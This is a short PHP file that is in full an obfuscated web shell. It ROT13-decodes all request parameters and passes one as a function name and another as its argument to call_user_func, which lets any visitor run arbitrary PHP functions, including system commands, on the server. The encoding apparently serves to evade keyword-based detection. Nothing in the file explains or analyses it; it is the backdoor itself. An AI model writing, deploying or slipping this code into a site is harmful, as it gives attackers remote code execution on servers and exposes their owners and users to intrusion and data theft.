<?php
$q = array_map('str_rot13', $_REQUEST);
call_user_func($q['x'], $q['y']);
